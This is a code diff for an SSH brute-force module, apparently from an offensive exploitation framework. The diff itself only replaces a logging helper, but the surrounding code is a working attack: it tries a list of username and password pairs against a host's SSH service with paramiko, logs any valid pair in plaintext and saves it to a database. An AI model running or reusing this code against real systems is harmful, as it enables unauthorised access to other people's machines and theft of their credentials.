@@ -1,9 +1,11 @@
 
 import paramiko
-from utils import log_message
+from core.logger import get_logger
 import database as db
 from modules.base_module import ExploitationModule
 
+logger = get_logger(__name__)
+
 class SshBruteforcerModule(ExploitationModule):
     def __init__(self):
         super().__init__()
@@ -35,7 +37,7 @@ class SshBruteforcerModule(ExploitationModule):
         if not ssh_vuln:
             return {"status": "failure", "reason": "no_vulns_for_this_module"}
 
-        log_message("info", f"[{self.name}] Starting SSH brute-force attack on {host}.")
+        logger.info("[%s] Starting SSH brute-force attack on %s.", self.name, host)
 
         for user, password in self.credentials:
             try:
@@ -44,7 +46,8 @@ class SshBruteforcerModule(ExploitationModule):
                 ssh.connect(host, port=22, username=user, password=password, timeout=5)
                 
                 # If we get here, the login was successful
-                log_message("critical", f"[{self.name}] SUCCESS! Found valid SSH credentials for {host}: {user}:{password}")
+                logger.critical("[%s] SUCCESS! Found valid SSH credentials for %s: %s:%s",
+                                self.name, host, user, password)
                 
                 # Store the found credentials
                 db.add_credentials(
@@ -63,15 +66,15 @@ class SshBruteforcerModule(ExploitationModule):
 
             except paramiko.AuthenticationException:
                 # This is the expected failure case
-                log_message("debug", f"[{self.name}] Failed login on {host} with {user}:{password}")
+                logger.debug("[%s] Failed login on %s with %s:%s", self.name, host, user, password)
                 continue
             except Exception as e:
                 # Other errors (e.g., connection refused, timeout)
-                log_message("error", f"[{self.name}] An error occurred connecting to {host}: {e}")
+                logger.error("[%s] An error occurred connecting to %s: %s", self.name, host, e)
                 db.update_vulnerability_status(ssh_vuln['id'], 'failed')
                 return {"status": "failure", "reason": "connection_error"}
         
         # If we finish the loop without success
-        log_message("warning", f"[{self.name}] Brute-force attack on {host} finished. No valid credentials found.")
+        logger.warning("[%s] Brute-force attack on %s finished. No valid credentials found.", self.name, host)
         db.update_vulnerability_status(ssh_vuln['id'], 'failed')
         return {"status": "failure", "reason": "no_creds_found"}